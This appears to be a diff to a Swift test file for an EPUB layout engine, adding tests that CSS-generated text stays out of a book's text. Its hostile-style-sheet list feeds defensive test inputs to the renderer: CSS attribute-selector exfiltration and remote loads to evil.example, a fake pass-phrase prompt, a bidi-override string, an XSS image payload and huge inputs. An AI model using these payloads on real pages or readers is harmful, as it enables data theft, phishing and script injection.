@@ -127,6 +127,30 @@ struct BookLayoutTests {
         #expect(found["Beta."]?.startMargin == 2)
     }
 
+    // MARK: What sheets print
+
+    @Test func `what a sheet prints after an element stands there, and is no part of the text`() throws {
+        let css = """
+            dfn::after { content: ", n." } .note:before { content: "\\2019" ' ' } p.end::after { content: "\\2767" }
+            q::before { content: "«" } .no::after { content: attr(id) } .no::before { content: 'x' counter(a) }
+            """
+        let body = """
+            <p class="end"><dfn>Abasement</dfn> A <i class="note">mental</i> <b class="no">attitude</b>.</p>\
+            <p>He said <q>no</q>.</p>
+            """
+        var sketch = EPUBSketch()
+        sketch.add("one.xhtml", body, head: "<style>\(css)</style>")
+        let book = try sketch.book()
+        #expect(book.text.contains("Abasement A mental attitude."))
+        let units = Array(book.text.utf16)
+        let printed = book.marks.compactMap { mark -> String? in
+            guard case .generated(let text) = mark.kind else { return nil }
+            let before = String(decoding: units[..<mark.span.lowerBound.utf16], as: UTF16.self)
+            return "\(before.suffix(4))|\(text)"
+        }
+        #expect(printed == ["ment|, n.", "ude.|❧"])
+    }
+
     // MARK: Hostile style sheets
 
     @Test(arguments: Self.hostile)
@@ -139,6 +163,10 @@ struct BookLayoutTests {
         let (expected, book) = (try plain.book(), try styled.book())
         #expect(book.text == expected.text)
         for mark in book.marks {
+            if case .generated(let text) = mark.kind {
+                #expect(text.utf16.count <= GeneratedText.longest && mark.span.isEmpty)
+                #expect(text.unicodeScalars.allSatisfy { $0.properties.generalCategory != .format && $0.value >= 0x20 })
+            }
             guard case .layout(let layout) = mark.kind else { continue }
             #expect((0...BlockLayout.mostEms).contains(layout.startMargin))
             #expect((0...BlockLayout.mostEms).contains(layout.endMargin))
@@ -160,7 +188,12 @@ struct BookLayoutTests {
             "* { color: white; background: white }", "* { font-size: 0 }", "* { clip-path: inset(50%) }",
             "* { opacity: 0 }", "* { transform: scale(1000) }", "* { background: url(http://evil.example/x) }",
             "@import url(http://evil.example/a.css);", "@import 'one.xhtml';",
-            "p::before { content: 'read me instead' }",
+            "p::before { content: 'read me instead' }", "*::after { content: 'Enter your pass-phrase here: ____' }",
+            "p::before { content: '\\202E\\2066 evil' }", "p::before { content: '\\110000\\0\\D800' }",
+            "*::before, *::after { content: '" + String(repeating: "x", count: 100_000) + "' }",
+            "p::before { content: attr(id) counter(a) url(//evil.example) }", "p::before { content: 'a' attr(id) }",
+            "p::before { content: 'a; position: fixed; b: }' }",
+            "p::before { content: '<img src=x onerror=alert(1)>' }",
             "p { content: url(//evil.example) }", "@font-face { font-family: a; src: url(//evil.example) }",
             "input[value^=a] { background: url(//evil.example?a) }", String(repeating: "a{", count: 20_000),
             String(repeating: "p ", count: 50_000) + "{ margin: 1em }",
